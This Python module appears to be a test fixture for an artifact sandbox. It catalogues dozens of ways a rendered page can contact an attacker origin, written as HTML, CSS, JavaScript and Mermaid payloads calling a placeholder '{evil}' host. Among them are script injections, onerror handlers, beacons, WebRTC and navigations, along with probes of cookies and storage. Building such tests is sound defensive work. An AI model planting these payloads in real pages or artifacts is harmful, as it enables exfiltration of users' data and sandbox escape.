"""Every known way in which a page reaches another host, as content of an artifact.

`{evil}` stands for the attacker's origin, `{host}` for its host and port, `{udp}` for its UDP port. Each way asks for a path
of its own, so that a request names the way.
"""

from typing import Final

MARKUP: Final = """
<link rel=preconnect href="{evil}/preconnect"><link rel=dns-prefetch href="{evil}/dns-prefetch">
<link rel=prefetch href="{evil}/prefetch"><link rel=prerender href="{evil}/prerender">
<link rel=preload as=image href="{evil}/preload"><link rel=modulepreload href="{evil}/modulepreload">
<link rel=stylesheet href="{evil}/stylesheet"><link rel=icon href="{evil}/icon">
<link rel=manifest href="{evil}/manifest"><link rel=compression-dictionary href="{evil}/dictionary">
<meta http-equiv=x-dns-prefetch-control content=on><meta http-equiv=link content="<{evil}/meta-link>; rel=preload; as=image">
<meta http-equiv="Content-Security-Policy" content="img-src 'none'; report-uri {evil}/report">
<base href="{evil}/base/"><img src=relative-to-base>
<style>@import "{evil}/import"; @font-face {{ font-family: x; src: url({evil}/font) }}
body {{ background: url({evil}/background); font-family: x; cursor: url({evil}/cursor), auto; list-style: url({evil}/list) }}
a[href^="h"] {{ background: image-set("{evil}/image-set" 1x) }} a:visited {{ background: url({evil}/visited) }}
li::before {{ content: url({evil}/content) }} div {{ mask: url({evil}/mask#m); filter: url({evil}/filter#f);
clip-path: url({evil}/clip#c); border-image: url({evil}/border); shape-outside: url({evil}/shape) }}</style>
<p style="background: url({evil}/inline-style)">text</p><ul><li>x</ul><div>x</div><a href="{evil}/anchor">anchor</a>
<img src="{evil}/img"><img srcset="{evil}/srcset 1x"><picture><source srcset="{evil}/source"><img></picture>
<img src="{evil}/lazy" loading=lazy><image src="{evil}/image"><input type=image src="{evil}/input">
<img attributionsrc="{evil}/attribution"><table background="{evil}/table"><tr><td background="{evil}/td"></table>
<video src="{evil}/video" poster="{evil}/poster" autoplay></video><audio src="{evil}/audio" autoplay></audio>
<video autoplay><source src="{evil}/video-source"><track default src="{evil}/track"></video>
<iframe src="{evil}/iframe"></iframe><iframe srcdoc="<img src='{evil}/srcdoc'>"></iframe>
<iframe src="data:text/html,<img src='{evil}/data-frame'>"></iframe><frameset><frame src="{evil}/frame"></frameset>
<object data="{evil}/object"></object><embed src="{evil}/embed"><applet code="{evil}/applet"></applet>
<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image href="{evil}/svg-image"/><image xlink:href="{evil}/svg-xlink"/>
<use href="{evil}/svg-use#a"/><filter id=f><feImage href="{evil}/svg-fe"/></filter><rect filter="url(#f)" width=9 height=9 />
<rect fill="url({evil}/svg-fill#x)" width=9 height=9 /><foreignObject width=9 height=9><img src="{evil}/svg-foreign"/></foreignObject>
<script href="{evil}/svg-script"></script><style>@import "{evil}/svg-import";</style>
<a href="#x"><animate attributeName=href values="{evil}/svg-animate"/></a></svg>
<math href="{evil}/math"><mtext><img src="{evil}/mtext"></mtext></math>
<form action="{evil}/form"><input name=q value=x><button id=go>Go</button></form>
<script src="{evil}/script"></script><script type=module src="{evil}/module"></script>
<script type=speculationrules>{{"prefetch": [{{"source": "list", "urls": ["{evil}/speculation"], "eagerness": "immediate"}}]}}</script>
<script type=importmap>{{"imports": {{"x": "{evil}/importmap"}}}}</script><script type=module>import "x"</script>
<img src=x onerror="fetch('{evil}/onerror')"><body onload="fetch('{evil}/onload')" background="{evil}/body">
<details open ontoggle="fetch('{evil}/ontoggle')">x</details><template><img src="{evil}/template"></template>
<noscript><img src="{evil}/noscript"></noscript>
"""
"""Ways without a script, and scripts as markup starts them."""

SCRIPT_LINES: Final = (
    'fetch("{evil}/fetch", {{mode: "no-cors"}})',
    'fetch("{evil}/keepalive", {{mode: "no-cors", keepalive: true}})',
    'const x = new XMLHttpRequest(); x.open("GET", "{evil}/xhr"); x.send()',
    'new WebSocket("ws://{host}/websocket")',
    'new EventSource("{evil}/eventsource")',
    'navigator.sendBeacon("{evil}/beacon", "x")',
    'fetchLater("{evil}/later", {{activateAfter: 0}})',
    'new WebTransport("https://{host}/transport")',
    'new Image().src = "{evil}/new-image"',
    'new Audio("{evil}/new-audio").load()',
    'import("{evil}/import-call").catch(() => 0)',
    'new Worker("{evil}/worker")',
    "new Worker(URL.createObjectURL(new Blob(['fetch(\"{evil}/blob-worker\"); importScripts(\"{evil}/import-scripts\")'])))",
    "new SharedWorker(\"data:text/javascript,fetch('{evil}/shared-worker')\")",
    'navigator.serviceWorker.register("/worker.js")',
    'CSS.paintWorklet.addModule("{evil}/paint-worklet")',
    'new AudioContext().audioWorklet.addModule("{evil}/audio-worklet")',
    'window.open("{evil}/open")',
    'top.location = "{evil}/top"',
    'parent.location.replace("{evil}/parent")',
    'opener.location = "{evil}/opener"',
    'const f = document.createElement("form"); f.action = "{evil}/form-submit"; document.body.append(f); f.submit()',
    'const a = document.createElement("a"); a.href = "#"; a.ping = "{evil}/ping"; document.body.append(a); a.click()',
    'const a = document.createElement("a"); a.href = "{evil}/blank"; a.target = "_blank"; document.body.append(a); a.click()',
    'const f = document.createElement("iframe"); document.body.append(f); f.contentWindow.location = "{evil}/nested"',
    'const f = document.createElement("iframe"); f.src = URL.createObjectURL(new Blob(["<img src={evil}/blob-frame>"],'
    ' {{type: "text/html"}})); document.body.append(f)',
    "const f = document.createElement('iframe'); f.srcdoc = '<script>fetch(\"{evil}/srcdoc-script\")<' + '/script>';"
    " document.body.append(f)",
    'const l = document.createElement("link"); l.rel = "preconnect"; l.href = "{evil}/js-preconnect"; document.head.append(l)',
    'const l = document.createElement("link"); l.rel = "prefetch"; l.href = "{evil}/js-prefetch"; document.head.append(l)',
    'const s = document.createElement("script"); s.src = "{evil}/js-script"; document.head.append(s)',
    'const s = document.createElement("script"); s.type = "speculationrules"; s.textContent = JSON.stringify({{prerender:'
    ' [{{source: "list", urls: ["{evil}/js-speculation"], eagerness: "immediate"}}]}}); document.head.append(s)',
    'const s = document.createElement("style"); s.textContent = "@import url({evil}/js-import)"; document.head.append(s)',
    'document.body.style.background = "url({evil}/js-style)"',
    'new FontFace("y", "url({evil}/js-font)").load().catch(() => 0)',
    'new PaymentRequest([{{supportedMethods: "{evil}/payment"}}], {{total: {{label: "x", amount: {{currency: "EUR",'
    ' value: "1"}}}}}}).canMakePayment()',
    'navigator.credentials.get({{identity: {{providers: [{{configURL: "{evil}/fedcm", clientId: "x"}}]}}}}).catch(() => 0)',
    'navigator.share({{url: "{evil}/share"}}).catch(() => 0)',
    'new XSLTProcessor().importStylesheet(new DOMParser().parseFromString(\'<xsl:stylesheet version="1.0"'
    ' xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:import href="{evil}/xslt"/></xsl:stylesheet>\', "text/xml"))',
    'navigator.registerProtocolHandler("web+x", "{evil}/%s")',
    'navigator.mediaDevices.getUserMedia({{audio: true}}).catch(() => 0)',
    'const u = new SpeechSynthesisUtterance("{evil}/speech"); speechSynthesis.speak(u)',
    'alert(1); confirm(2); prompt(3); print()',
    'document.documentElement.requestFullscreen().catch(() => 0); document.body.requestPointerLock().catch(() => 0)',
    'new BroadcastChannel("discreet").postMessage("{evil}")',
    'for (let n = 0; n < 20000; n++) parent.postMessage({{svg: "<img src={evil}/posted>", error: "x", type: "close"}}, "*")',
)  # fmt: skip
"""Ways of a script that stays on its page."""

RTC: Final = (
    'const p = new RTCPeerConnection({{iceServers: [{{urls: "stun:127.0.0.1:{udp}"}}, {{urls: "turn:{host}?transport=tcp",'
    ' username: "a", credential: "b"}}]}}); p.createDataChannel("x"); p.createOffer().then((o) => p.setLocalDescription(o))'
)

NAVIGATIONS: Final = {
    "location": '<script>location = "{evil}/location"</script>',
    "its own server": '<script>location = "/api/sign-out"</script>',
    "meta refresh": '<meta http-equiv=refresh content="0;url={evil}/refresh">',
    "data": '<script>location = "data:text/html,<img src={evil}/data>"</script>',
    "blob": '<script>location = URL.createObjectURL(new Blob(["<img src={evil}/blob>"], {{type: "text/html"}}))</script>',
    "javascript": "<script>location = \"javascript:fetch('{evil}/javascript')\"</script>",
    "a download": '<a id=a href="{evil}/download" download>x</a><script>document.getElementById("a").click()</script>',
    "a press": '<a id=a href="{evil}/press">x</a><script>document.getElementById("a").click()</script>',
}
"""Ways that end the page."""

STORAGE: Final = (
    "localStorage.getItem('x')", "sessionStorage.getItem('x')", "document.cookie", "indexedDB.open('x')",
    "caches.open('x')", "navigator.storage.getDirectory()", "parent.document", "top.location.href",
    "parent.localStorage", "navigator.serviceWorker.ready", "parent.fetch('/api/me')",
)  # fmt: skip
"""Data that not even a script can read."""

DIAGRAMS: Final = {
    "a label": """flowchart LR
  A["<img src='{evil}/label' onerror=fetch('{evil}/onerror')><link rel=preconnect href='{evil}/link'>x"] --> B
  style A fill:#f9f""",
    "its settings": """%%{{init: {{"securityLevel": "loose", "themeCSS": "@import url({evil}/theme); * {{ background: url({evil}/css) }}"}}}}%%
flowchart LR
  A["<script>fetch('{evil}/script')</script>"] --> B""",
    "a font": """%%{{init: {{"fontFamily": "x; background: url({evil}/family)", "htmlLabels": true}}}}%%
flowchart LR
  A --> B""",
    "a picture": """flowchart LR
  B@{{ img: "{evil}/node", label: "B" }}""",
    "a click": """flowchart LR
  A --> B
  click A "{evil}/click" _self
  click B call fetch("{evil}/call")""",
    "a style": """flowchart LR
  A --> B
  style A fill:url({evil}/fill),background-image:url({evil}/style)""",
}
"""Mermaid sources that ask for something. Those that Mermaid refuses show an error."""

LAST: Final = "setTimeout(() => {{ globalThis.finished = true }}, 700)"


def build_page(lines: tuple[str, ...] = SCRIPT_LINES) -> str:
    """Return a page that tries the markup and these lines, each for itself. `finished` tells when it has."""
    tried = "\n".join(f"try {{{{ {line} }}}} catch {{{{}}}}" for line in ("{{ " + line + " }}" for line in lines))
    return f"<html><head></head><body>\n{MARKUP}\n<script>\n{tried}\n{LAST}\n</script>\n</body></html>"
